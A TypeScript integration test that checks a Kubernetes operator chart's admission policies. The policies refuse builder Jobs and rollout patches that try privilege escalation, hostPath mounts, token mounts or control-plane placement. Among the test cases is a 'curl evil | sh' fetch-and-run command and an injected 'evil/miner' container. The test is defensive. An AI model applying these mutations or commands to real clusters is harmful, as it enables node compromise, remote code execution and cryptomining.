// The chart's ValidatingAdmissionPolicy (issue 12, item 7) on the test bed's real API server, with
// the operator's own ServiceAccount token and the chart's RBAC: the builder Job the controller
// renders is admitted; the same Job with a foreign image, a hostPath volume, a privileged or
// escalating container, an extra capability, a host namespace, a ServiceAccount token, another
// ServiceAccount, or placement on control-plane nodes is refused, each with its message. A
// rollout patch that changes a workload's image is admitted, one that changes anything else of
// its pod template is refused. An admin doing the same is not affected (the policies bind the
// operator's user only).
// Every create is a dry run (admission runs in full, nothing is stored).
import type { V1Job } from "@kubernetes/client-node";
import { parseAllDocuments } from "yaml";
import { describe, expect, it } from "vitest";
import { nixImageSchema } from "../../src/api/niximage.ts";
import { parseOperatorConfig } from "../../src/config/operator-config.ts";
import { builderJob } from "../../src/controller/builder-job.ts";
import { KubeHttpError, kubeRequestJson } from "../../src/runtime/kube-request.ts";
import { kubeClients, kubectl, testbed, testNamespace, waitFor } from "../support/kube.ts";
import { chartServiceAccount } from "../support/operator-harness.ts";
import { run } from "../support/process.ts";
import type { KubeConfig } from "@kubernetes/client-node";

const chartImages = { nix: "ghcr.io/niximage/nix-builder:2.28", push: "ghcr.io/niximage/nix-image-operator:0.1.0" };

function builderJobIn(namespace: string): V1Job {
  const config = parseOperatorConfig({ builder: { nixImage: chartImages.nix, pushImage: chartImages.push } });
  const image = nixImageSchema.parse({
    apiVersion: "niximage.io/v1alpha1",
    kind: "NixImage",
    metadata: { name: "web", namespace, uid: "0b6a4c52-7f1e-4a57-9a38-000000000001", generation: 1 },
    spec: { flake: "github:acme/shop?ref=main", image: { repository: "registry.example.com/acme/web", pushSecretRef: { name: "regcred" } } },
  });
  const job = builderJob({
    image,
    kind: "Image",
    number: 1,
    reasons: ["SpecChanged"],
    flake: `github:acme/shop/${"1".repeat(40)}`,
    storeVolume: "niximage-store-0",
    specHash: "0123456789abcdef",
    builderHash: "fedcba9876543210",
    config,
  });
  // Owner references to a NixImage that does not exist are fine for a dry run, but drop them: the
  // policy does not look at them.
  delete job.metadata!.ownerReferences;
  return job;
}

/** Creates `job` (dry run) as `kc`: "" when admitted, else the API server's message. */
async function create(kc: KubeConfig, job: V1Job): Promise<string> {
  try {
    await kubeRequestJson(kc, "POST", `/apis/batch/v1/namespaces/${job.metadata!.namespace}/jobs`, { body: job, query: { dryRun: "All" } });
    return "";
  } catch (e) {
    if (e instanceof KubeHttpError && (e.statusCode === 403 || e.statusCode === 422)) return e.message;
    throw e;
  }
}

type Mutation = (job: V1Job) => void;
const pod = (job: V1Job) => job.spec!.template.spec!;
const step = (job: V1Job, name: string) => [...(pod(job).initContainers ?? []), ...pod(job).containers].find((c) => c.name === name)!;

const attacks: Array<[string, Mutation, RegExp]> = [
  [
    "a foreign image",
    (j) => (step(j, "build").image = "docker.io/library/alpine:3"),
    /only run its configured builder images .*not docker.io\/library\/alpine:3/,
  ],
  ["a hostPath volume", (j) => pod(j).volumes!.push({ name: "host", hostPath: { path: "/" } }), /may not mount hostPath volumes/],
  [
    "a privileged container",
    // (privileged with allowPrivilegeEscalation=false is invalid anyway: the API server's own validation)
    (j) => (step(j, "push").securityContext = { privileged: true }),
    /may not run privileged containers/,
  ],
  ["privilege escalation", (j) => (step(j, "build").securityContext!.allowPrivilegeEscalation = true), /allowPrivilegeEscalation=false/],
  [
    "an extra capability",
    (j) => (step(j, "build").securityContext!.capabilities = { drop: ["ALL"], add: ["SYS_ADMIN"] }),
    /only the capabilities builder steps need/,
  ],
  ["the node's network", (j) => (pod(j).hostNetwork = true), /node's network, PID or IPC namespace/],
  ["a mounted token", (j) => (pod(j).automountServiceAccountToken = true), /never get a ServiceAccount token/],
  ["a token left to the default", (j) => delete pod(j).automountServiceAccountToken, /never get a ServiceAccount token/],
  [
    "a projected token volume",
    (j) => pod(j).volumes!.push({ name: "token", projected: { sources: [{ serviceAccountToken: { path: "token" } }] } }),
    /never get a ServiceAccount token/,
  ],
  ["another ServiceAccount", (j) => (pod(j).serviceAccountName = "deployer"), /default ServiceAccount or config.builder.serviceAccountName/],
  [
    "a control-plane toleration",
    (j) => (pod(j).tolerations = [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists", effect: "NoSchedule" }]),
    /may not land on control-plane nodes/,
  ],
  ["a toleration of every taint", (j) => (pod(j).tolerations = [{ operator: "Exists" }]), /may not land on control-plane nodes/],
  ["a control-plane nodeSelector", (j) => (pod(j).nodeSelector = { "node-role.kubernetes.io/control-plane": "" }), /may not land on control-plane nodes/],
  ["a nodeName", (j) => (pod(j).nodeName = "master-0"), /may not land on control-plane nodes/],
];

describe("the chart's ValidatingAdmissionPolicy, with the operator's own token (real API server)", () => {
  it("admits the builder Job; refuses each attack with its message; leaves other users alone", async () => {
    const bed = testbed();
    const access = await chartServiceAccount();
    const { stdout } = await run(bed.kube.helm, [
      "template",
      access.release,
      "charts/nix-image-operator",
      "--namespace",
      access.namespace,
      "--kube-version",
      bed.kube.version,
      "--show-only",
      "templates/admission-policy.yaml",
    ]);
    const objects = parseAllDocuments(stdout).map((d) => d.toJS() as { kind: string; metadata: { name: string } });
    expect(objects.map((o) => `${o.kind}/${o.metadata.name}`).sort()).toEqual(
      ["ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"].flatMap((kind) =>
        ["builders", "rollouts"].map((what) => `${kind}/${access.release}-nix-image-operator-${what}`),
      ),
    );
    await kubectl(["apply", "--server-side", "-f", "-"], { input: objects.map((o) => JSON.stringify(o)).join("\n") });
    const names = ["builders", "rollouts"].map((what) => `${access.release}-nix-image-operator-${what}`);
    try {
      const namespace = await testNamespace("vap");
      // The API server compiles the policy and starts enforcing it a moment after it is stored.
      const hostPathJob = builderJobIn(namespace);
      pod(hostPathJob).volumes!.push({ name: "host", hostPath: { path: "/" } });
      await waitFor("the admission policy to be enforced", async () => ((await create(access.kc, hostPathJob)) !== "" ? true : undefined), {
        timeoutMs: 30_000,
      });

      expect(await create(access.kc, builderJobIn(namespace)), "the controller's own builder Job").toBe("");
      const refused: Record<string, string> = {};
      for (const [what, mutate, message] of attacks) {
        const job = builderJobIn(namespace);
        mutate(job);
        const answer = await create(access.kc, job);
        refused[what] = answer;
        expect(answer, what).toMatch(message);
        expect(answer, what).toMatch(/ValidatingAdmissionPolicy/);
        // An admin's identical create is not the policy's business.
        expect(await create(kubeClients().kc, job), `${what}, as admin`).toBe("");
      }

      // Rollouts: the operator may change a workload's container images, nothing else.
      const deployments = `/apis/apps/v1/namespaces/${namespace}/deployments`;
      await kubeRequestJson(kubeClients().kc, "POST", deployments, {
        body: {
          apiVersion: "apps/v1",
          kind: "Deployment",
          metadata: { name: "web" },
          spec: {
            selector: { matchLabels: { app: "web" } },
            template: { metadata: { labels: { app: "web" } }, spec: { containers: [{ name: "web", image: "registry.example.com/acme/web:1" }] } },
          },
        },
      });
      const patch = async (kc: KubeConfig, template: object): Promise<string> => {
        try {
          await kubeRequestJson(kc, "PATCH", `${deployments}/web`, {
            body: { spec: { template: { spec: template } } },
            contentType: "application/strategic-merge-patch+json",
            query: { dryRun: "All" },
          });
          return "";
        } catch (e) {
          if (e instanceof KubeHttpError && (e.statusCode === 403 || e.statusCode === 422)) return e.message;
          throw e;
        }
      };
      const rolloutAttacks: Array<[string, object]> = [
        ["a privileged container", { containers: [{ name: "web", securityContext: { privileged: true } }] }],
        ["a hostPath volume", { volumes: [{ name: "host", hostPath: { path: "/" } }] }],
        ["another command", { containers: [{ name: "web", command: ["/bin/sh", "-c", "curl evil | sh"] }] }],
        ["an added container", { containers: [{ name: "web" }, { name: "miner", image: "evil/miner:1" }] }],
        ["the node's network", { hostNetwork: true }],
        ["another ServiceAccount", { serviceAccountName: "deployer" }],
      ];
      await waitFor("the rollout policy to be enforced", async () => ((await patch(access.kc, { hostNetwork: true })) !== "" ? true : undefined), {
        timeoutMs: 30_000,
      });
      expect(
        await patch(access.kc, { containers: [{ name: "web", image: `registry.example.com/acme/web@sha256:${"a".repeat(64)}` }] }),
        "an image rollout",
      ).toBe("");
      for (const [what, template] of rolloutAttacks) {
        const answer = await patch(access.kc, template);
        refused[`rollout: ${what}`] = answer;
        expect(answer, what).toMatch(/a rollout by the operator changes container images only/);
        expect(await patch(kubeClients().kc, template), `${what}, as admin`).toBe("");
      }
      process.stderr.write(
        `admission policy answers:\n${Object.entries(refused)
          .map(([w, m]) => `  ${w}: ${m}`)
          .join("\n")}\n`,
      );
    } finally {
      for (const name of names) await kubectl(["delete", "validatingadmissionpolicybinding,validatingadmissionpolicy", name, "--ignore-not-found"]);
    }
  });

  it("admissionPolicy.allowControlPlaneNodes drops the placement rule; admissionPolicy.enabled=false renders nothing", async () => {
    const bed = testbed();
    const render = async (set: string[]) =>
      (await run(bed.kube.helm, ["template", "nio", "charts/nix-image-operator", "--kube-version", bed.kube.version, ...set.flatMap((s) => ["--set", s])]))
        .stdout;
    expect(await render([])).toMatch(/may not land on control-plane nodes/);
    const allowed = await render(["admissionPolicy.allowControlPlaneNodes=true"]);
    expect(allowed).toMatch(/kind: ValidatingAdmissionPolicy\n/);
    expect(allowed).not.toMatch(/may not land on control-plane nodes/);
    expect(await render(["admissionPolicy.enabled=false"])).not.toMatch(/ValidatingAdmissionPolicy/);
  });
});
